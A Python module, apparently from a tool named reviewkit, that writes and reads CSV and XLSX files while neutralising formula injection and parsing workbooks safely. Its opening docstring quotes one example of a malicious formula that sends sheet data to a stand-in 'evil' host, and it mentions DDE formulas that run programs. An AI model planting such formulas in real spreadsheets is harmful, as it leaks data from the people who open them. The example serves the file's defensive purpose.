"""CSV and XLSX files people open in a spreadsheet program: no cell is a formula, every cell reads back.

A cell whose text begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1)``
sends the sheet away when clicked; DDE formulas run programs). Cells are
neutralised the way OWASP recommends (CSV injection):

* CSV: such a cell is written with a leading ``'``, the spreadsheet
  convention for "this is text"; :func:`read_csv` takes it off again, so the
  text reads back exactly as it was (a cell that itself starts with quotes
  before such a character gets one more quote, so the rule is reversible).
  Plain numbers (``-0.5``, ``+3``) are not formulas and stay as they are.
* XLSX: such a cell is stored as a text cell with Excel's quote-prefix style:
  it shows and reads back as the text, and stays text when edited. Control
  characters XML cannot hold (pasted from a PDF, say) are written as OOXML's
  ``_xHHHH_`` escapes, which Excel reads, and :func:`read_xlsx` decodes.

:func:`read_csv` is strict where pandas is lenient: a row with fewer or more
fields than the header (a file cut short mid-row, a stray comma) is an error
naming the row, so a damaged sheet is never taken for a shorter one.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from pathlib import Path

import pandas as pd

from .errors import ReviewkitError
from .io import read_bytes
from .redact import excerpt

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_RISKY = re.compile(r"^'*[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$")
# A sheet of screening decisions is a few MB even for 100,000 records.
MAX_SHEET_BYTES = 256 * 2**20
# OOXML strings (ST_Xstring): characters XML 1.0 cannot hold are written _xHHHH_, and so is the "_" that
# starts text which would otherwise read as such an escape.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_LOOKS_ESCAPED = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
_ESCAPE = re.compile(r"_x([0-9A-Fa-f]{4})_")
# Text that _ooxml_escape changes: it holds a character XML cannot, or looks like an escape.
_NEEDS_OOXML_ESCAPE = f"{_XML_ILLEGAL.pattern}|{_LOOKS_ESCAPED.pattern}"


def _ooxml_escape(text: str) -> str:
    text = _LOOKS_ESCAPED.sub("_x005F_", text)
    return _XML_ILLEGAL.sub(lambda m: f"_x{ord(m.group(0)):04X}_", text)


def _ooxml_unescape(value: object) -> object:
    return _ESCAPE.sub(lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) and "_x" in value \
        else value


def _needs_quote(text: str) -> bool:
    return bool(_RISKY.match(text)) and not _NUMBER.match(text)


def neutralise(value: object) -> object:
    """A CSV cell as written: text a spreadsheet would run as a formula gets a leading ``'``."""
    return "'" + value if isinstance(value, str) and _needs_quote(value) else value


def restore(text: str) -> str:
    """A CSV cell as read: the inverse of :func:`neutralise`."""
    return text[1:] if text.startswith("'") and _needs_quote(text[1:]) else text


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index, ``\\n`` line ends) with every text cell and header neutralised."""
    out = frame.map(neutralise)
    out.columns = [neutralise(c) for c in frame.columns]
    # The csv writer quotes a field holding a carriage return only when \r ends lines; such a cell
    # (rare: pasted text) is kept whole by quoting every field of that file.
    carriage = any(isinstance(v, str) and "\r" in v for v in [*out.columns, *out.to_numpy().ravel()])
    return out.to_csv(index=False, lineterminator="\n", quoting=csv.QUOTE_ALL if carriage else csv.QUOTE_MINIMAL)


def _xlsx_value(value: object) -> object:
    """A table cell as openpyxl writes it, the way ``DataFrame.to_excel`` converts it: missing values
    blank, numpy scalars as Python numbers, text OOXML-escaped (control characters)."""
    if isinstance(value, str):
        return _ooxml_escape(value)
    if value is None or value is pd.NA or value is pd.NaT or (isinstance(value, float) and value != value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if hasattr(value, "item") and not isinstance(value, (list, tuple, dict)):  # numpy scalars
        value = value.item()
        return None if isinstance(value, float) and value != value else value
    return value


def xlsx_bytes(frame: pd.DataFrame, sheet_name: str, *, widths: Sequence[float] = (),
               freeze: str | None = None) -> bytes:
    """``frame`` as an XLSX workbook of one sheet; cells a spreadsheet would run are quote-prefixed text.

    openpyxl (write-only mode) writes the workbook; for a table of text and whole numbers (a
    screening sheet) its rows are then made as whole columns of XML text, the same XML openpyxl
    writes cell by cell (:func:`_sheet_rows`): 100,000 screening rows in seconds, not minutes.

    Parameters
    ----------
    frame : pandas.DataFrame
        The table; its column names are the header row (bold).
    sheet_name : str
        The worksheet's name.
    widths : sequence of float
        Column widths from column A on.
    freeze : str, optional
        The top-left cell of the unfrozen pane (e.g. ``"B2"``).

    Returns
    -------
    bytes
        The workbook.
    """
    if len(frame) < _FAST_WRITE_ROWS or not all(_text_or_whole(frame.iloc[:, i]) for i in range(frame.shape[1])):
        return _openpyxl_xlsx_bytes(frame, sheet_name, widths=widths, freeze=freeze)
    import zipfile

    # The workbook without its data rows but with a quote-prefixed cell, so that its styles hold
    # the quote-prefix style; the rows made here replace that row.
    template = _openpyxl_xlsx_bytes(pd.DataFrame([["="] * frame.shape[1]], columns=frame.columns), sheet_name,
                                    widths=widths, freeze=freeze)
    source = zipfile.ZipFile(io.BytesIO(template))
    sheet_part = next(n for n in source.namelist() if n.startswith("xl/worksheets/"))
    xml = source.read(sheet_part).decode("utf-8")
    start = xml.index('<row r="2">')
    end = xml.index("</sheetData>")
    quote = re.search(r'<c r="A2" s="(\d+)"', xml[start:end])
    if quote is None:  # not the template openpyxl wrote before: let it write the rows too
        return _openpyxl_xlsx_bytes(frame, sheet_name, widths=widths, freeze=freeze)
    quote_style = quote.group(1)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename != sheet_part:
                out.writestr(info, source.read(info.filename))
                continue
            # Level 1: a quarter larger than level 6, compressed in a third of the time; rows made
            # and written a slice at a time, so memory holds a slice, not the sheet's XML.
            info.compress_type, info._compresslevel = zipfile.ZIP_DEFLATED, 1  # type: ignore[attr-defined]
            with out.open(info, "w") as part:
                part.write(xml[:start].encode("ascii", "xmlcharrefreplace"))
                for first in range(0, len(frame), _WRITE_SLICE):
                    rows = _sheet_rows(frame.iloc[first:first + _WRITE_SLICE], first + 2, quote_style)
                    # ASCII with character references, as openpyxl (lxml) writes it
                    part.write(rows.encode("ascii", "xmlcharrefreplace"))
                part.write(xml[end:].encode("ascii", "xmlcharrefreplace"))
    return buffer.getvalue()


#: Below this many rows openpyxl writes every cell (its speed does not matter there).
_FAST_WRITE_ROWS = 200
_WRITE_SLICE = 10_000


def _column_letters(number: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(number)


def _text_or_whole(column: pd.Series) -> bool:
    """Whether every cell is Python text or a whole number (``str`` or ``int``, not ``bool``)."""
    return all(type(v) is str or type(v) is int for v in column)


def _sheet_rows(frame: pd.DataFrame, first_row: int, quote_style: str) -> str:
    """The XML of ``frame``'s rows (a table of ``str`` and ``int``; its first row is sheet row
    ``first_row``) as openpyxl's write-only mode writes them, built a whole column at a time;
    ``quote_style``: the number of the workbook's quote-prefix cell style."""
    import numpy as np

    count = len(frame)
    numbers = pd.Series(np.arange(first_row, first_row + count).astype(str), dtype=object)
    joined = pd.Series([""] * count, dtype=object)
    for position in range(frame.shape[1]):
        values = frame.iloc[:, position].astype(object).reset_index(drop=True)
        text = np.fromiter((type(v) is str for v in values), dtype=bool, count=count)
        strings = values.where(text, "")
        escape = strings.str.contains(_NEEDS_OOXML_ESCAPE, regex=True).to_numpy(dtype=bool)
        if escape.any():
            strings = strings.where(~escape, strings[escape].map(_ooxml_escape))
        risky = strings.str.startswith(FORMULA_STARTS).to_numpy(dtype=bool)
        spaced = (strings != strings.str.strip()).to_numpy(dtype=bool)
        escaped = (strings.str.replace("&", "&amp;", regex=False).str.replace("<", "&lt;", regex=False)
                   .str.replace(">", "&gt;", regex=False).str.replace("\r", "&#13;", regex=False))
        opening = np.where(risky, f'" s="{quote_style}" t="inlineStr">', '" t="inlineStr">')
        content = np.where(spaced, '<is><t xml:space="preserve">', "<is><t>")
        filled = pd.Series(opening, dtype=object) + pd.Series(content, dtype=object) + escaped + "</t></is></c>"
        empty = (strings == "").to_numpy(dtype=bool)
        cell = np.where(empty, pd.Series(opening, dtype=object) + "</c>", filled)
        if not text.all():
            whole = '" t="n"><v>' + values.where(~text, 0).astype(str) + "</v></c>"
            cell = np.where(text, cell, whole.to_numpy())
        joined = joined + '<c r="' + _column_letters(position + 1) + numbers + pd.Series(cell, dtype=object)
    return "".join(('<row r="' + numbers + '">' + joined + "</row>").tolist())


def _openpyxl_xlsx_bytes(frame: pd.DataFrame, sheet_name: str, *, widths: Sequence[float] = (),
               freeze: str | None = None) -> bytes:
    """:func:`xlsx_bytes` through openpyxl's write-only mode, rows streamed to the file (about three
    times faster than a workbook held in memory, ``DataFrame.to_excel``, and flat in memory)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook(write_only=True)
    ws = book.create_sheet(sheet_name)
    if freeze:
        ws.freeze_panes = freeze
    for number, width in enumerate(widths[: frame.shape[1]], 1):
        ws.column_dimensions[get_column_letter(number)].width = width
    bold = Font(bold=True)

    def text_cell(value: str, header: bool = False) -> WriteOnlyCell:
        cell = WriteOnlyCell(ws, value)
        if value.startswith(FORMULA_STARTS):
            cell.data_type = "s"  # openpyxl makes "=..." a formula; this keeps it text
            cell.quotePrefix = True
        if header:
            cell.font = bold
        return cell

    ws.append([text_cell(_ooxml_escape(str(c)), header=True) for c in frame.columns])
    for row in frame.itertuples(index=False, name=None):
        values = [_xlsx_value(v) for v in row]
        ws.append([text_cell(v) if isinstance(v, str) and v.startswith(FORMULA_STARTS) else v for v in values])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def read_csv(path: str | Path, what: str = "table") -> pd.DataFrame:
    """A CSV file people may have edited, as a table of strings, formulas' quotes taken off.

    The file is read without following a symbolic link. Not UTF-8, a quote never
    closed, a row whose number of fields differs from the header's, or a header
    that names a column twice is a ``ReviewkitError`` naming the file (and row).
    Blank lines are skipped; a header cell left empty is named ``Unnamed: <n>`` as pandas does.
    """
    path = Path(path)
    try:
        text = read_bytes(path, MAX_SHEET_BYTES).decode("utf-8-sig")
    except UnicodeDecodeError as exc:
        raise ReviewkitError(f"{path}: the {what} is not UTF-8 text (byte {exc.start}); save it as CSV UTF-8") from None
    rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    try:
        header = next(rows, None)
        if header is None:
            raise ReviewkitError(f"{path}: the {what} is empty (no header row)")
        names = [restore(h) or f"Unnamed: {i}" for i, h in enumerate(header)]
        twice = sorted({n for n in names if names.count(n) > 1})
        if twice:
            raise ReviewkitError(f"{path}: the header names column {excerpt(twice[0])} twice")
        body = []
        for row in rows:
            if not row:
                continue
            if len(row) != len(names):
                line = rows.line_num
                raise ReviewkitError(
                    f"{path}, line {line}: {len(row)} fields where the header has {len(names)}"
                    + ("; the file looks cut short (saved while being written?)" if len(row) < len(names) else "")
                    + "; nothing was changed")
            body.append([restore(v) for v in row])
    except csv.Error as exc:
        raise ReviewkitError(f"{path}, line {rows.line_num}: not valid CSV ({exc}); the file looks cut short or "
                             "damaged; nothing was changed") from None
    return pd.DataFrame(body, columns=names, dtype=object)


def read_xlsx(path: str | Path, what: str = "table") -> pd.DataFrame:
    """The first sheet of an XLSX file as a table of strings (empty cells ""), never through a link.

    A workbook of text and whole numbers in plain rows (what reviewkit writes, and what a spreadsheet
    program saves of it) is read by :func:`_fast_xlsx_rows`, about twenty times faster than openpyxl's
    reader; anything else (dates, formulas' errors, blank rows, a DTD, a damaged file) is read by
    pandas and openpyxl as before, so every file reads as it did and a damaged one is named.
    """
    path = Path(path)
    data = read_bytes(path, MAX_SHEET_BYTES)
    try:
        rows = _fast_xlsx_rows(data)
    except Exception:  # noqa: BLE001 (anything unexpected: the full reader decides, and names the file)
        rows = None
    if rows is not None:
        frame = pd.DataFrame(rows[1:], columns=rows[0], dtype=object)
    else:
        try:
            frame = pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="openpyxl")
        except Exception as exc:  # a damaged workbook must name itself, whatever the zip or XML layer raised
            raise ReviewkitError(f"{path}: cannot read the {what} ({type(exc).__name__}: {excerpt(exc)}); "
                                 "nothing was changed") from None
    frame.columns = [_ooxml_unescape(c) for c in frame.columns]
    for column in range(frame.shape[1]):  # a whole column at a time; cells with an escape are rare
        values = frame.iloc[:, column].astype(object)
        escaped = values.map(lambda v: isinstance(v, str) and "_x" in v).astype(bool)
        frame.isetitem(column, values.where(~escaped, values[escaped].map(_ooxml_unescape))
                       if escaped.any() else values)
    return frame


_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_PACKAGE_RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}"
_DOC_REL = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
_WORKSHEET = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
_SHARED_STRINGS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_CONTENT_TYPES = "{http://schemas.openxmlformats.org/package/2006/content-types}"
# Number formats that show a number as a number (General, 0, 0.00, #,##0, #,##0.00): any other
# (dates above all) sends the file to openpyxl, which knows them.
_PLAIN_NUMBER_FORMATS = {"0", "1", "2", "3", "4"}
_DIGITS = "0123456789"
# The fast reader holds a workbook part (shared strings, styles) whole; a larger one goes to openpyxl.
_MAX_PART_BYTES = 512 * 2**20


def _part(archive, name: str):
    """An XML part of the package as an lxml tree (no DTD, no entities, no network); None if absent."""
    from lxml import etree

    try:
        if archive.getinfo(name).file_size > _MAX_PART_BYTES:
            raise ValueError(f"{name} is larger than {_MAX_PART_BYTES} bytes unpacked")  # openpyxl decides
        data = archive.read(name)
    except KeyError:
        return None
    parser = etree.XMLParser(load_dtd=False, no_network=True, resolve_entities=False)
    root = etree.fromstring(data, parser)
    if root.getroottree().docinfo.doctype:
        raise ValueError("a DTD")  # the full reader refuses it as before
    return root


def _joined(base: str, target: str) -> str:
    """A relationship target as a name in the package."""
    import posixpath

    if target.startswith("/"):
        return target[1:]
    return posixpath.normpath(posixpath.join(posixpath.dirname(base), target))


def _rich_text(node) -> str:
    """A string item's text as openpyxl gives it: its ``t``, then its runs' ``t`` (phonetic runs left out)."""
    plain = node.find(f"{_MAIN}t")
    parts = [plain.text or ""] if plain is not None else []
    parts += [t.text or "" for t in node.iterfind(f"{_MAIN}r/{_MAIN}t")]
    return "".join(parts)


def _fast_xlsx_rows(data: bytes) -> list[list[str]] | None:
    """The first worksheet's rows as pandas' ``read_excel(dtype=str, keep_default_na=False)`` with
    openpyxl gives them, header first; None for a workbook outside the plain case it covers.

    Covered: shared, inline and formula-result strings, whole numbers in a plain number format, empty
    cells; rows numbered in order with cells in column order, none blank, none wider than the header,
    a header of distinct non-empty text. The sheet is parsed as a stream (lxml, elements cleared as
    read), so its memory is that of the table, not of the XML.

    Parameters
    ----------
    data : bytes
        The XLSX file.

    Returns
    -------
    list of list of str, or None
        Header row, then data rows padded to the header's width; None: read it with openpyxl.
    """
    import zipfile

    from lxml import etree

    archive = zipfile.ZipFile(io.BytesIO(data))
    package = _part(archive, "_rels/.rels")
    office = [r.get("Target") for r in package.iterfind(f"{_PACKAGE_RELS}Relationship")
              if r.get("Type", "").endswith("/officeDocument")]
    workbook_name = _joined("", office[0])
    workbook = _part(archive, workbook_name)
    rels_name = _joined(workbook_name, f"_rels/{workbook_name.rsplit('/', 1)[-1]}.rels")
    rels = {r.get("Id"): r for r in _part(archive, rels_name).iterfind(f"{_PACKAGE_RELS}Relationship")}
    first = workbook.find(f"{_MAIN}sheets/{_MAIN}sheet")
    rel = rels[first.get(_DOC_REL)]
    if rel.get("Type") != _WORKSHEET or rel.get("TargetMode") == "External":
        return None
    sheet_name = _joined(workbook_name, rel.get("Target"))
    types = _part(archive, "[Content_Types].xml")
    strings: list[str] = []
    for override in types.iterfind(f"{_CONTENT_TYPES}Override"):
        if override.get("ContentType") == _SHARED_STRINGS:
            table = _part(archive, override.get("PartName").lstrip("/"))
            # openpyxl's shared-string reader drops "x005F_" (its half of the _x005F_ escape)
            strings = [_rich_text(si).replace("x005F_", "") for si in table.iterfind(f"{_MAIN}si")]
            break
    # Each cell style's number format (as openpyxl finds the styles: through the workbook's relationships);
    # without styles a styled number is left to openpyxl.
    number_formats: list[str] | None = None
    for style_rel in rels.values():
        if style_rel.get("Type", "").endswith("/styles"):
            styles = _part(archive, _joined(workbook_name, style_rel.get("Target")))
            if styles is not None:
                number_formats = [xf.get("numFmtId", "0") for xf in styles.iterfind(f"{_MAIN}cellXfs/{_MAIN}xf")]
            break

    rows: list[list[str]] = []
    expected_row = 1
    c_tag, is_tag, t_tag, v_tag = (f"{_MAIN}{name}" for name in ("c", "is", "t", "v"))
    columns: dict[str, int] = {}
    with archive.open(sheet_name) as stream:
        events = etree.iterparse(stream, events=("start", "end"), tag=(f"{_MAIN}worksheet", f"{_MAIN}row"),
                                 load_dtd=False, no_network=True, resolve_entities=False, huge_tree=True)
        for event, element in events:
            if element.tag == f"{_MAIN}worksheet":
                if element.getroottree().docinfo.doctype:
                    return None
                continue
            if event == "start":
                continue
            number = element.get("r")
            if number is not None and number != str(expected_row):
                return None  # a gap (blank rows) or rows out of order
            expected_row += 1
            row: list[str] = []
            for cell in element:
                if cell.tag != c_tag:
                    return None
                ref = cell.get("r")
                if ref is not None:
                    column = columns.get(ref.rstrip(_DIGITS))
                    if column is None:
                        column = columns[ref.rstrip(_DIGITS)] = _column_number(ref)
                    if column <= len(row):
                        return None
                    if column - 1 > len(row):
                        row.extend([""] * (column - 1 - len(row)))
                kind = cell.get("t", "n")
                if kind == "inlineStr":
                    inline = cell.find(is_tag)
                    if inline is None:
                        row.append("")
                    elif len(inline) == 1 and inline[0].tag == t_tag:  # the usual <is><t>text</t></is>
                        row.append(inline[0].text or "")
                    else:
                        row.append(_rich_text(inline))
                    continue
                value = cell.findtext(v_tag) or None
                if value is None:
                    row.append("")
                elif kind == "s":
                    row.append(strings[int(value)])
                elif kind == "str":
                    row.append(value)
                elif kind == "n":
                    style = int(cell.get("s", "0"))
                    if (number_formats is None and style) or \
                            (number_formats is not None and style < len(number_formats)
                             and number_formats[style] not in _PLAIN_NUMBER_FORMATS) or \
                            (number_formats is not None and style >= max(len(number_formats), 1)):
                        return None
                    number_value = float(value) if any(c in value for c in ".eE") else int(value)
                    if number_value != int(number_value):
                        return None  # a fraction: pandas' float formatting is the full reader's
                    row.append(str(int(number_value)))
                else:
                    return None  # booleans, errors, ISO dates
            while row and row[-1] == "":
                row.pop()
            if not row:
                return None  # a blank row: pandas skips it, the full reader decides
            rows.append(row)
            element.clear()
            while element.getprevious() is not None:
                del element.getparent()[0]
    if not rows:
        return None
    header = rows[0]
    if "" in header or len(set(header)) != len(header) or any(len(r) > len(header) for r in rows):
        return None
    return [header] + [r + [""] * (len(header) - len(r)) for r in rows[1:]]


def _column_number(reference: str) -> int:
    """The column of a cell reference (``"AB12"`` -> 28)."""
    number = 0
    for char in reference:
        if "A" <= char <= "Z":
            number = number * 26 + ord(char) - 64
        elif char.isdigit():
            break
        else:
            raise ValueError(f"not a cell reference: {reference!r}")
    return number
